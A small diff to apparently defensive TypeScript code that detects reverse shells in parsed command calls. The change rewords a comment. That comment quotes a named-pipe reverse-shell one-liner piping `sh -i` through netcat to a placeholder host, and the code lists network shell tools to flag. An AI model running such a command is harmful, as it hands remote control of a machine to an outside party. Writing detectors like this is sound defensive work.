@@ -45,7 +45,7 @@ function connectsShell(call: Call): boolean {
   return sockets.some(({ kind, descriptor }) => readsOutput || (kind === "read" && (descriptor ?? 0) === 0));
 }
 
-/** `cat pipe | sh -i 2>&1 | nc host port > pipe`: what a shell prints that itself reads from a pipe goes to the network. */
+/** `cat pipe | sh -i 2>&1 | nc host port > pipe`: a shell that reads from a pipe prints to the network. */
 function pipesShell({ program, input }: Call): boolean {
   const isNetwork = NETCATS.test(plainName(program)) || ["telnet", "socat", "openssl"].includes(plainName(program));
   if (!isNetwork || input.kind !== "pipe") return false;
